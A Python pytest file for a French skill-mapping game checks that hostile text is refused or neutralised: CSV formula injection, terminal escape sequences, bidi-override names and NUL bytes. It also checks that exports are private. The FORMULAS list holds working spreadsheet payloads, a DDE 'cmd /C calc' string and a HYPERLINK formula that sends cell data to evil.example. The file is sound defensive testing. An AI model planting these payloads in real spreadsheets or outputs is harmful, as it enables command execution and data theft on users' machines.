"""Hostile text in, safe text out: through the real commands, in child processes.

What a person types is refused with a French message when it holds control or bidi characters
or is too long (never cut); what the counsellor's terminal, a spreadsheet or a page shows
cannot carry an escape sequence, a formula or a NUL; exports are readable by their owner only.
"""

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from shared import hygiene
from shared.player import Player
from shared.store import Store
from skillmap import review
from tests.skillmap import builders as b

ROOT = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "PYTHONPATH": str(ROOT), "SDL_VIDEODRIVER": "dummy", "DIVA_DEBUG": ""}
ESCAPES = ("\x1b", "\x07", "\x00", "\x9b", "\u202e")


def run(*args: str | bytes) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", *args], cwd=ROOT, env=ENV, capture_output=True, timeout=300
    )


def skillmap(data: Path, *args: str) -> tuple[int, str, str]:
    done = run("skillmap.cli", *args, "--data-dir", str(data))
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab=1+1",
    "\rCR=1+1",
]


def test_stats_csv_neutralises_formulas_for_a_french_spreadsheet(tmp_path: Path) -> None:
    store = Store(tmp_path)
    for n, structure in enumerate(FORMULAS):
        b.player(store, f"P{n}", structure)
    code, out, err = skillmap(tmp_path, "stats", "--csv")
    assert code == 0, err
    assert out.startswith("\ufeff")  # Excel reads the accents as UTF-8
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
    assert all(len(row) == 8 for row in rows)
    names = {row[1] for row in rows if row[0] == "structure"}
    # the model keeps a structure on one line (tab and CR removed), the CSV adds the apostrophe
    assert names == {hygiene.csv_cell(hygiene.cleaned(f)) for f in FORMULAS}
    assert sum(name.startswith("'") for name in names) == 5
    for row in rows:
        for cell in row:
            assert not cell.startswith(hygiene.FORMULA_STARTS), cell


def test_terminal_output_shows_escapes_never_obeys_them(tmp_path: Path) -> None:
    store = Store(tmp_path)
    player = b.player(store, "Eve", "ML Lens")
    b.draft(store, player.id, title="Club", words="mots")
    hostile = "ML \x1b]0;pwned\x07 Lens\x00"
    for path in (tmp_path / "index.json", tmp_path / "players" / f"{player.id}.json"):
        raw = path.read_text(encoding="utf-8")  # as an old or hand-edited file holds them
        raw = raw.replace('"ML Lens"', json.dumps(hostile))
        raw = raw.replace('"Club"', json.dumps("Club \x1b[2J\x1b[31mrouge\u202e"))
        raw = raw.replace('"mots"', json.dumps("mots\x9b6n"))
        path.write_text(raw, encoding="utf-8")
    for args in (["players"], ["profile", "Eve"], ["review", "Eve"], ["players", "--json"]):
        code, out, err = skillmap(tmp_path, *args)
        assert code == 0, err
        assert not any(ch in out for ch in ESCAPES), args
    assert "\\u001b]0;pwned\\u0007" in skillmap(tmp_path, "players")[1]
    listed = json.loads(skillmap(tmp_path, "players", "--json")[1])  # still valid JSON
    assert listed[0]["structure"] == hostile
    assert "Club [2J[31mrouge" in skillmap(tmp_path, "profile", "Eve")[1]  # records cleaned


def test_records_keep_texts_in_nfc_without_control_characters() -> None:
    from shared.experience import Experience

    exp = Experience(
        player_id="p", title="Cafe\u0301\x1b[31m", own_words="l1\nl2\x00", activities=["a\u202eb"]
    )
    assert (exp.title, exp.own_words, exp.activities) == ("Café[31m", "l1\nl2", ["ab"])
    assert Player(pseudonym="Zoe", structure="ML\x00 Lens").structure == "ML Lens"


def test_a_huge_structure_does_not_pad_every_line(tmp_path: Path) -> None:
    store = Store(tmp_path)
    b.player(store, "Long", "x" * 100_000)
    for n in range(5):
        b.player(store, f"Court{n}", "ML Lens")
    code, out, _ = skillmap(tmp_path, "players")
    assert code == 0
    lines = out.splitlines()
    assert max(len(line) for line in lines) < 200
    assert any(hygiene.ELLIPSIS in line for line in lines)


def test_a_portfolio_holds_no_nul_and_exports_are_private(tmp_path: Path) -> None:
    store = Store(tmp_path / "data")
    player = b.player(store, "Noa", "ML\x00 Lens")
    b.draft(store, player.id, title="Titre\x00 caché", words="a\x00b", competencies={"oral": 2})
    review.confirm_experience(store, player.id, "1", "Anne")
    out = tmp_path / "out"
    code, _, err = skillmap(
        tmp_path / "data", "export", "Noa", "--data", "--out", str(out / "n.json")
    )
    assert code == 0, err
    code, _, err = skillmap(
        tmp_path / "data", "export", "Noa", "--consent", "--out", str(out / "n.html")
    )
    assert code == 0, err
    html = (out / "n.html").read_text(encoding="utf-8")
    assert "\x00" not in html and "Titre caché" in html
    for name in ("n.json", "n.html", "n.png"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name


# -- what people type ------------------------------------------------------------------------

HOSTILE_PSEUDONYMS = {
    "rtl override": "abc\u202egnp.exe",
    "newline": "Lina\nSami",
    "only spaces": "   ",
    "escape": "Zo\x1b[31mra",
    "41 characters": "a" * 41,
}


@pytest.mark.parametrize("case", HOSTILE_PSEUDONYMS)
def test_game_refuses_a_hostile_player_name_in_french(tmp_path: Path, case: str) -> None:
    done = run(
        "game.cli", "--headless", "--autoplay", "club-foot",
        "--player", HOSTILE_PSEUDONYMS[case], "--data-dir", str(tmp_path),
    )  # fmt: skip
    err = done.stderr.decode("utf-8")
    assert done.returncode == 1
    assert "Traceback" not in err and "validation error" not in err
    assert "pseudo" in err and "Rien n’a été enregistré" in err
    assert not list((tmp_path / "players").glob("*.json"))


def test_game_refuses_a_player_name_that_is_not_utf8(tmp_path: Path) -> None:
    done = run(
        "game.cli", "--headless", "--autoplay", "club-foot",
        b"--player", b"Lin\xff\xfea", "--data-dir", str(tmp_path),
    )  # fmt: skip
    err = done.stderr.decode("utf-8")
    assert done.returncode == 1
    assert "Traceback" not in err and "UnicodeEncodeError" not in err
    assert "0xFF" in err and "UTF-8" in err and "pseudo" in err


def test_a_40_character_pseudonym_is_kept_whole_and_found_again(tmp_path: Path) -> None:
    name = "é" * 39 + "e\u0301"  # 41 code points typed, 40 once composed (NFC)
    for _ in range(2):
        done = run(
            "game.cli", "--headless", "--autoplay", "club-foot", "--seed", "1",
            "--player", name, "--data-dir", str(tmp_path),
        )  # fmt: skip
        assert done.returncode == 0, done.stderr.decode()
    (row,) = Store(tmp_path).players()
    assert row["pseudonym"] == "é" * 40


def test_skillmap_refuses_control_characters_in_typed_texts(tmp_path: Path) -> None:
    store = Store(tmp_path)
    store.add_player(Player(pseudonym="Lina"))
    code, _, err = skillmap(tmp_path, "experience", "add", "Lina", "--title", "Club\x1b[2J")
    assert code == 1
    assert "titre contient un caractère invisible" in err and "U+001B" in err
    code, _, err = skillmap(tmp_path, "experience", "add", "Lina", "--title", "t" * 201)
    assert code == 1 and "201 caractères" in err
    assert Store(tmp_path).experiences(store.players()[0]["id"]) == []


def test_hygiene_normalises_and_refuses() -> None:
    assert hygiene.pseudonym("  Zoe\u0301 ") == "Zoé"
    assert hygiene.free_text("ligne 1\nligne 2", "words", 100, multiline=True) == "ligne 1\nligne 2"
    for bad in ("a\u200bb", "a\u202eb", "a\x00b", "a\udcffb", "a" * 41, " "):
        with pytest.raises(hygiene.TextError):
            hygiene.pseudonym(bad)
    assert hygiene.csv_cell("=1+1") == "'=1+1" and hygiene.csv_cell(-3) == -3
    assert hygiene.csv_cell("\tx") == "'\tx" and hygiene.csv_cell("\rx") == "'\rx"
    assert hygiene.shorten("abcdef", 4) == "abc…"
    assert hygiene.for_html("a\x00b\x1bc\nd") == "abc\nd"
